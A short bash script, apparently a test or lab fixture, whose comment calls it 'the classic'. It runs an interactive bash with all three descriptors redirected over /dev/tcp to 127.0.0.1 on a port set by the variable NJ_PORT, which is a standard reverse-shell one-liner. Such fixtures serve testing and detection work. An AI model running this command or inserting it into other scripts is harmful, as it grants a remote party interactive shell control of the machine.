#!/bin/bash
# The classic: an interactive bash whose three descriptors are one connection, opened by bash itself.
bash -i >& "/dev/tcp/127.0.0.1/$NJ_PORT" 0>&1
